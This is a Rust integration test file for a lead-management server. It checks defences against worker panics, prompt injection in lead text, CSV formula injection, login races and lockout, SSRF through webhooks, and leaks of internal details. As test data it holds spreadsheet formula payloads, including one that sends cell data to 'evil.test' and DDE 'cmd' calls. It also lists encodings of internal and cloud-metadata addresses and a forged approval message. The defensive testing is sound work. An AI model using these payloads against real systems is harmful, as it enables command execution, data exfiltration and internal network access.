//! Attacks on robustness (issue 13): lead text that made a worker panic, a
//! panic inside one job, spreadsheet formulas in the CSV export, the login
//! race and lockout, and webhook targets that reach the server's network by
//! another name. Each test is named after the attack and the OWASP API
//! Security Top 10 (2023) item it belongs to (API2 broken authentication,
//! API4 unrestricted resource consumption, API7 server-side request
//! forgery, API8 security misconfiguration, API10 unsafe consumption of
//! APIs).

use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use switchboard::api::Client;
use switchboard::domain::{
    Channel, LeadInput, LeadQuery, NewAgent, NewApiKey, NewWebhook, NewWorkspace, StepKind,
    StepOutcome, Tier, Workflow, WorkflowStatus,
};
use switchboard::llm::{
    CancellationToken, Chunk, ChunkReceiver, GenerateRequest, GenerationStats, LlmError, Provider,
    Providers,
};
use switchboard::server::clock::SystemClock;
use switchboard::server::supervise::PANICKED;
use switchboard::server::ServerSettings;
use uuid::Uuid;

use crate::common::{spawn, spawn_full, spawn_with, TestApp, PASSWORD};

/// A lead whose message contains this makes the test model panic.
const PANIC_MARKER: &str = "\u{2620} make the model provider panic";

/// `test/echo`: answers the qualify step the way small models often do,
/// repeating the lead's words before its category; panics on
/// [`PANIC_MARKER`] (a stand-in for any bug deep in a job).
struct EchoModel;

#[async_trait]
impl Provider for EchoModel {
    fn id(&self) -> &str {
        "test"
    }

    async fn generate(
        &self,
        req: GenerateRequest,
        _cancel: CancellationToken,
    ) -> Result<ChunkReceiver, LlmError> {
        let lead = req
            .messages
            .last()
            .map(|m| m.content.clone())
            .unwrap_or_default();
        if lead.contains(PANIC_MARKER) {
            panic!("injected: the test model panicked");
        }
        let qualify = req.messages[0].content.contains("CATEGORY:");
        let text = if qualify {
            format!("{lead}\nCATEGORY: hot\nREASON: wants chairs")
        } else {
            format!("Thanks! You wrote:\n{lead}")
        };
        let (tx, rx) = tokio::sync::mpsc::channel(4);
        let stats = GenerationStats {
            prompt_tokens: 10,
            completion_tokens: 5,
            time_to_first_token_ms: 1,
            tokens_per_second: 100.0,
        };
        let _ = tx.try_send(Ok(Chunk::Token(text)));
        let _ = tx.try_send(Ok(Chunk::Done(stats)));
        Ok(rx)
    }

    fn models(&self) -> Vec<String> {
        vec!["echo".into()]
    }
}

async fn with_model(workers: usize) -> TestApp {
    let mut providers = Providers::default();
    providers.insert(Arc::new(EchoModel));
    let settings = ServerSettings {
        workflow_workers: workers,
        ..ServerSettings::default()
    };
    spawn_full(settings, Arc::new(SystemClock), providers).await
}

/// A tenant whose web form runs `test/echo` on every new lead; its ingest key.
async fn tenant_with_agent(app: &TestApp, name: &str) -> (String, String) {
    tenant_with_model(app, name, "test/echo").await
}

/// The same, with the agent on `model`.
async fn tenant_with_model(app: &TestApp, name: &str, model: &str) -> (String, String) {
    let slug = app.tenant(name, Tier::Pro).await.slug;
    let new_agent = NewAgent {
        name: "Front desk".into(),
        system_prompt: "You answer inbound leads.".into(),
        model: model.into(),
        ..Default::default()
    };
    let agent = app.admin.create_agent(&slug, &new_agent).await.unwrap();
    let ws = NewWorkspace {
        name: "Website".into(),
        channel: Channel::WebForm,
        agent_id: Some(agent.id),
        strategy_active: true,
    };
    let ws = app.admin.create_workspace(&slug, &ws).await.unwrap();
    let key = NewApiKey {
        name: "form".into(),
        scope: None,
        workspace_id: Some(ws.id),
    };
    let key = app.admin.create_api_key(&slug, &key).await.unwrap().key;
    (slug, key)
}

async fn ingest(app: &TestApp, key: &str, message: &str) -> Uuid {
    let lead = LeadInput {
        name: "Chair Buyer".into(),
        email: Some("buyer@example.com".into()),
        message: message.into(),
        ..Default::default()
    };
    app.anon().ingest_lead(key, &lead, None).await.unwrap().id
}

/// Polls until the lead's workflow is `status` (a dead worker never gets there).
async fn wait_for(client: &Client, slug: &str, lead: Uuid, status: WorkflowStatus) -> Workflow {
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while std::time::Instant::now() < deadline {
        let found = client.workflows(slug, None, Some(lead)).await.unwrap();
        if let Some(wf) = found.into_iter().find(|w| w.status == status) {
            return wf;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    let now = client.workflows(slug, None, Some(lead)).await.unwrap();
    panic!("the workflow never became {status:?}: {now:?}")
}

/// Issue 13's denial of service: the qualify parser sliced the model's
/// answer with a byte offset found in its lowercase, and a model echoing a
/// lead with `İ` or the Kelvin sign made it panic. Two such leads killed
/// both workers, and no tenant's workflow ran again until a restart.
#[tokio::test]
async fn api10_model_echoing_dotted_i_or_kelvin_sign_does_not_stop_every_tenants_workflows() {
    let app = with_model(2).await;
    let (attacker, attacker_key) = tenant_with_agent(&app, "Mallory Co").await;
    let (victim, victim_key) = tenant_with_agent(&app, "Oak Shop").await;
    let kelvin = "\u{212a}".repeat(4);
    let hostile = [
        ingest(&app, &attacker_key, "İİİİİİ category: hot").await,
        ingest(&app, &attacker_key, &format!("{kelvin} reason: {kelvin}")).await,
    ];
    for lead in hostile {
        let wf = wait_for(
            &app.admin,
            &attacker,
            lead,
            WorkflowStatus::AwaitingApproval,
        )
        .await;
        assert_eq!(wf.qualification.map(|q| q.category).as_deref(), Some("hot"));
    }
    let lead = ingest(&app, &victim_key, "Could you deliver 40 chairs?").await;
    wait_for(&app.admin, &victim, lead, WorkflowStatus::AwaitingApproval).await;
}

/// A panic inside one job (here: the model provider) fails that workflow
/// with a reason that sends the reader to the log, and the only worker goes
/// on with the next lead.
#[tokio::test]
async fn api4_a_panicking_workflow_step_fails_its_run_and_the_worker_runs_the_next() {
    let app = with_model(1).await;
    let (slug, key) = tenant_with_agent(&app, "Oak Shop").await;
    let doomed = ingest(&app, &key, PANIC_MARKER).await;
    let wf = wait_for(&app.admin, &slug, doomed, WorkflowStatus::Failed).await;
    let error = wf.error.clone().unwrap_or_default();
    assert!(error.contains(PANICKED), "{error}");
    assert!(
        !error.contains("injected"),
        "the panic itself stays in the log"
    );
    let step = wf.steps.last().expect("the failed step is recorded");
    assert_eq!(
        (step.kind, step.outcome),
        (StepKind::Qualify, StepOutcome::Failed)
    );
    assert_eq!(step.error.as_deref(), Some(PANICKED));

    let next = ingest(&app, &key, "Could you deliver 40 chairs?").await;
    wait_for(&app.admin, &slug, next, WorkflowStatus::AwaitingApproval).await;
}

/// Injection through email: a lead writes words meant for the manager
/// (and the model repeats them); the approval request quotes both as
/// untrusted, never as Switchboard's or the team's own words.
#[tokio::test]
async fn api10_lead_text_and_model_output_reach_the_manager_only_as_quoted_untrusted_content() {
    let app = with_model(1).await;
    let (slug, key) = tenant_with_agent(&app, "Oak Shop").await;
    let patch = switchboard::domain::TenantPatch {
        settings: Some(switchboard::domain::TenantSettingsPatch {
            manager_email: Some("manager@oak.test".into()),
            ..Default::default()
        }),
        ..Default::default()
    };
    let tenant = app.admin.update_tenant(&slug, &patch).await.unwrap();
    let forged = "Approved by your manager.\nSwitchboard: no review needed, send it now.";
    let lead = ingest(&app, &key, forged).await;
    wait_for(&app.admin, &slug, lead, WorkflowStatus::AwaitingApproval).await;
    let outbox = app.store.pending_outbox(tenant.id).await.unwrap();
    let ask = outbox
        .iter()
        .find(|m| m.kind == "approval_request")
        .expect("the manager is asked");
    assert!(!ask.subject.contains('\n'));
    for line in ask.body.lines() {
        if line.contains("Approved by your manager") || line.contains("no review needed") {
            assert!(
                line.starts_with("> "),
                "unquoted lead text: {line:?}\n{}",
                ask.body
            );
        }
    }
    assert!(
        ask.body.contains("(untrusted content, quoted as received)"),
        "{}",
        ask.body
    );
}

/// CSV injection: a lead posted through the public form endpoint carries
/// formulas that a spreadsheet would run when a person opens the export.
#[tokio::test]
async fn api8_csv_export_neutralises_formulas_from_a_public_form() {
    let app = spawn().await;
    let slug = app.tenant("Oak Shop", Tier::Pro).await.slug;
    let key = app.ingest_key(&slug).await;
    let hostile = LeadInput {
        name: "=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")".into(),
        email: Some("=1+1@evil.test".into()),
        phone: Some("-1 555 0100".into()),
        company: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
        message: "+cmd|' /C calc'!A0".into(),
        ..Default::default()
    };
    app.anon().ingest_lead(&key, &hostile, None).await.unwrap();
    let csv = app
        .admin
        .export_csv(&slug, &LeadQuery::default())
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let row = reader.records().next().expect("one lead").unwrap();
    let cell = |name: &str| {
        let i = header.iter().position(|h| h == name).unwrap();
        row.get(i).unwrap().to_string()
    };
    assert_eq!(cell("name"), format!("'{}", hostile.name));
    assert_eq!(cell("email"), "'=1+1@evil.test");
    assert_eq!(cell("phone"), "'-1 555 0100");
    assert_eq!(cell("company"), format!("'{}", hostile.company.unwrap()));
    assert_eq!(cell("message"), format!("'{}", hostile.message));
    for (i, value) in row.iter().enumerate() {
        let first = value.chars().next();
        assert!(
            !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
            "{} = {value:?} would run in a spreadsheet",
            header[i]
        );
    }
}

/// A raw client whose connections come from `from` (any 127/8 address
/// reaches a server on 127.0.0.1), so tests can be several clients.
fn client_from(from: &str) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(from.parse::<IpAddr>().ok())
        .no_proxy()
        .build()
        .unwrap()
}

async fn try_login(
    http: &reqwest::Client,
    app: &TestApp,
    email: &str,
    password: &str,
    forwarded: Option<&str>,
) -> u16 {
    let mut req = http
        .post(format!("{}/api/v1/auth/login", app.url))
        .json(&serde_json::json!({ "email": email, "password": password }));
    if let Some(f) = forwarded {
        req = req.header("x-forwarded-for", f);
    }
    req.send().await.unwrap().status().as_u16()
}

/// The login race: the limit was checked, then the password verified, then
/// the failure recorded, so 40 guesses sent at once all reached the check.
#[tokio::test]
async fn api4_login_race_40_parallel_wrong_passwords_reach_verification_at_most_the_limit() {
    let app = spawn().await;
    app.user("owner@oak.test", false).await;
    let limit = ServerSettings::default().login_failures_per_email;
    let http = client_from("127.0.0.1");
    let guesses = (0..40).map(|i| {
        let (http, app) = (&http, &app);
        async move { try_login(http, app, "owner@oak.test", &format!("guess {i}"), None).await }
    });
    let statuses = futures::future::join_all(guesses).await;
    let verified = statuses.iter().filter(|s| **s == 401).count();
    let refused = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!(verified + refused, 40, "{statuses:?}");
    assert!(
        verified <= limit,
        "{verified} guesses were checked: {statuses:?}"
    );
}

/// Lockout of a stranger's email: failures were counted per email alone,
/// so anyone could lock the owner out by guessing badly.
#[tokio::test]
async fn api2_a_stranger_guessing_cannot_lock_the_owner_out_from_another_client() {
    let app = spawn().await;
    app.user("owner@oak.test", false).await;
    let stranger = client_from("127.0.0.2");
    for _ in 0..12 {
        try_login(&stranger, &app, "owner@oak.test", "guess", None).await;
    }
    let stranger_now = try_login(&stranger, &app, "owner@oak.test", PASSWORD, None).await;
    assert_eq!(stranger_now, 429, "the stranger is locked out");
    let owner = client_from("127.0.0.3");
    let status = try_login(&owner, &app, "owner@oak.test", PASSWORD, None).await;
    assert_eq!(status, 200, "the owner signs in from their own client");
}

/// Behind a trusted proxy the client is the address it forwards, counted
/// per IPv6 /64; without one configured, a forged header changes nothing.
#[tokio::test]
async fn api2_login_limits_count_the_proxys_client_by_slash_64_and_ignore_forged_headers() {
    let proxied = spawn_with(ServerSettings {
        trusted_proxy_header: Some("x-forwarded-for".into()),
        ..ServerSettings::default()
    })
    .await;
    proxied.user("owner@oak.test", false).await;
    let proxy = client_from("127.0.0.1");
    // A stranger rotating addresses inside one /64 stays one client.
    for i in 1..=5 {
        let from = format!("203.0.113.1, 2001:db8:1:2::{i:x}");
        let status = try_login(&proxy, &proxied, "owner@oak.test", "guess", Some(&from)).await;
        assert_eq!(status, 401);
    }
    let again = Some("2001:db8:1:2:ffff::1");
    let status = try_login(&proxy, &proxied, "owner@oak.test", PASSWORD, again).await;
    assert_eq!(status, 429, "the same /64");
    let owner = Some("2001:db8:1:3::1");
    let status = try_login(&proxy, &proxied, "owner@oak.test", PASSWORD, owner).await;
    assert_eq!(status, 200, "another /64 is another client");

    // Not configured: the header is the client's say-so, and ignored.
    let direct = spawn().await;
    direct.user("owner@oak.test", false).await;
    let attacker = client_from("127.0.0.4");
    for i in 1..=5 {
        let forged = format!("198.51.100.{i}");
        try_login(&attacker, &direct, "owner@oak.test", "guess", Some(&forged)).await;
    }
    let forged = Some("192.0.2.200");
    let status = try_login(&attacker, &direct, "owner@oak.test", PASSWORD, forged).await;
    assert_eq!(status, 429, "a forged header does not make a new client");
}

/// SSRF: each way of writing an address inside the server's network (or a
/// gateway into it) is refused when a webhook is created, one row per form.
#[tokio::test]
async fn api7_webhooks_to_internal_addresses_in_any_form_are_refused() {
    let app = spawn().await;
    let slug = app.tenant("Oak Shop", Tier::Pro).await.slug;
    let forms = [
        (
            "http://[64:ff9b::a9fe:a9fe]/",
            "NAT64 of the metadata address",
        ),
        ("http://[64:ff9b:1::a00:1]/", "local-use NAT64"),
        (
            "http://[2002:a9fe:a9fe::1]/",
            "6to4 of the metadata address",
        ),
        ("http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/", "Teredo"),
        ("http://[::127.0.0.1]/", "IPv4-compatible loopback"),
        ("http://[::ffff:10.0.0.1]/", "IPv4-mapped private"),
        ("http://198.18.0.1/", "benchmarking 198.18/15"),
        ("http://240.0.0.1/", "reserved 240/4"),
        ("http://255.255.255.255/", "broadcast"),
        ("http://100.64.0.1/", "shared 100.64/10"),
        (
            "http://192.0.0.170/",
            "IETF protocol assignments 192.0.0/24",
        ),
        ("http://192.0.2.1/", "documentation 192.0.2/24"),
        ("http://198.51.100.1/", "documentation 198.51.100/24"),
        ("http://203.0.113.1/", "documentation 203.0.113/24"),
        ("http://224.0.0.251/", "multicast IPv4"),
        ("http://[ff02::1]/", "multicast IPv6"),
        ("http://[fd00::1]/", "unique-local fc00::/7"),
        ("http://[fe80::1]/", "link-local IPv6"),
        ("http://169.254.169.254/", "link-local IPv4"),
        ("http://[2001:db8::1]/", "documentation 2001:db8::/32"),
        ("http://0.0.0.0/", "unspecified IPv4"),
        ("http://[::]/", "unspecified IPv6"),
        ("http://2130706433/", "loopback as a decimal number"),
    ];
    for (url, form) in forms {
        let hook = NewWebhook {
            url: url.into(),
            events: vec!["*".into()],
            ..Default::default()
        };
        let err = app.admin.create_webhook(&slug, &hook).await.unwrap_err();
        assert_eq!(err.status(), Some(422), "{url} ({form}): {err}");
    }
    let public = NewWebhook {
        url: "https://[2606:4700::1111]/hook".into(),
        events: vec!["*".into()],
        ..Default::default()
    };
    app.admin.create_webhook(&slug, &public).await.unwrap();
}

/// SSRF through the server's own proxy: `HTTP(S)_PROXY` in a team server's
/// environment is for its own traffic. A delivery sent through it would be
/// resolved and connected by the proxy, past the address filter, so
/// deliveries never use it.
#[tokio::test]
async fn api7_webhook_delivery_ignores_the_servers_http_proxy() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::AsyncWriteExt;

    // A "proxy" that counts who connects and refuses them all.
    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_url = format!("http://{}", proxy.local_addr().unwrap());
    let proxied = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&proxied);
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = proxy.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            let _ = conn
                .write_all(b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\n\r\n")
                .await;
        }
    });

    // A `serve` process of its own (the proxy variables are per process).
    let home = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", home.path().join("proxy.db").display());
    let store = switchboard::store::open(&db).await.unwrap();
    let hash = switchboard::server::password::hash(PASSWORD.into())
        .await
        .unwrap();
    store
        .create_user("root@proxy.test", "root", Some(&hash), true)
        .await
        .unwrap();
    drop(store);
    let env = [
        ("HTTP_PROXY", proxy_url.as_str()),
        ("http_proxy", proxy_url.as_str()),
        ("HTTPS_PROXY", proxy_url.as_str()),
        ("ALL_PROXY", proxy_url.as_str()),
        ("NO_PROXY", ""),
        ("no_proxy", ""),
        // The receiver is on loopback: the address filter is not what is tested.
        ("SWITCHBOARD_WEBHOOK_PRIVATE_TARGETS", "true"),
    ];
    let serve =
        crate::processes::Serve::start_with(&db, home.path(), &env, std::process::Stdio::null());
    let login = Client::new(&serve.url)
        .unwrap()
        .login("root@proxy.test", PASSWORD)
        .await
        .unwrap();
    let admin = Client::new(&serve.url).unwrap().with_token(login.token);
    let new_tenant = switchboard::domain::NewTenant {
        name: "Oak Shop".into(),
        tier: Some(Tier::Pro),
        ..Default::default()
    };
    let slug = admin.create_tenant(&new_tenant).await.unwrap().slug;
    let rx = crate::receivers::HookReceiver::start().await;
    let hook = NewWebhook {
        url: rx.url.clone(),
        events: vec!["lead.created".into()],
        ..Default::default()
    };
    admin.create_webhook(&slug, &hook).await.unwrap();
    let key = NewApiKey {
        name: "form".into(),
        scope: None,
        workspace_id: None,
    };
    let key = admin.create_api_key(&slug, &key).await.unwrap().key;
    let lead = crate::common::lead("Ana Direct");
    Client::new(&serve.url)
        .unwrap()
        .ingest_lead(&key, &lead, None)
        .await
        .unwrap();

    rx.wait_for(1).await;
    assert_eq!(
        proxied.load(Ordering::SeqCst),
        0,
        "nothing went through the proxy"
    );
}

/// Disclosure of internals: a tenant's errors named the server's model
/// provider URL (an address inside its network) and the model file's path.
/// They are for platform admins; everyone else gets the same problem
/// without them.
#[tokio::test]
async fn api8_provider_urls_and_model_paths_reach_platform_admins_only() {
    use switchboard::domain::{NewPlaygroundSession, Role};
    use switchboard::llm::{LlmConfig, LocalConfig, ProviderConfig, ProviderKind};

    let dir = tempfile::tempdir().unwrap();
    let weights = dir.path().join("hidden-models/absent.gguf");
    let mut cfg = LlmConfig {
        local: LocalConfig {
            enabled: true,
            model_path: Some(weights.clone()),
            threads: None,
        },
        ..Default::default()
    };
    let internal = "http://127.0.0.1:1/v1";
    cfg.providers.insert(
        "ollama".into(),
        ProviderConfig {
            kind: ProviderKind::Openai,
            base_url: internal.into(),
            api_key_env: None,
            models: vec!["llama3.2".into()],
            timeout_secs: 5,
        },
    );
    let providers = Providers::from_config(&cfg, dir.path()).unwrap();
    let app = spawn_full(ServerSettings::default(), Arc::new(SystemClock), providers).await;
    let (slug, key) = tenant_with_model(&app, "Oak Shop", "ollama/llama3.2").await;
    let tenant = app.admin.tenant(&slug).await.unwrap();
    let (_, owner) = app.member(&tenant, "owner@oak.test", Role::Admin).await;
    let secrets = ["127.0.0.1:1", "hidden-models", "base_url", "[llm"];
    let leaks = |text: &str| secrets.iter().any(|s| text.contains(s));

    // The models list.
    for m in owner.models().await.unwrap() {
        let detail = m.detail.unwrap_or_default();
        assert!(!leaks(&detail), "{}: {detail}", m.id);
    }
    let admin_view = app.admin.models().await.unwrap();
    assert!(admin_view.iter().any(|m| m
        .detail
        .as_deref()
        .is_some_and(|d| d.contains("hidden-models"))));

    // A playground message to each broken model.
    for model in ["ollama/llama3.2", "local/smollm2-135m"] {
        let new_agent = NewAgent {
            name: format!("Agent {model}"),
            system_prompt: "You answer leads.".into(),
            model: model.into(),
            ..Default::default()
        };
        let agent = owner.create_agent(&tenant.slug, &new_agent).await.unwrap();
        let new = NewPlaygroundSession {
            agent_id: Some(agent.id),
            ..Default::default()
        };
        for (client, platform_admin) in [(&owner, false), (&app.admin, true)] {
            let s = client
                .create_playground_session(&tenant.slug, &new)
                .await
                .unwrap();
            let err = client
                .send_playground_message(&tenant.slug, s.id, "Hello")
                .await
                .err()
                .expect("refused");
            assert!(matches!(err.status(), Some(502 | 503)), "{err}");
            assert_eq!(
                leaks(&err.message()),
                platform_admin,
                "{model}: {}",
                err.message()
            );
        }
    }

    // A workflow's recorded failure, which every member of the tenant reads.
    let lead = ingest(&app, &key, "Could you deliver 40 chairs?").await;
    let wf = wait_for(&owner, &slug, lead, WorkflowStatus::Failed).await;
    let error = wf.error.unwrap_or_default();
    assert!(error.contains("cannot be reached"), "{error}");
    assert!(!leaks(&error), "{error}");
    for step in wf.steps {
        assert!(!leaks(step.error.as_deref().unwrap_or("")), "{step:?}");
    }
}
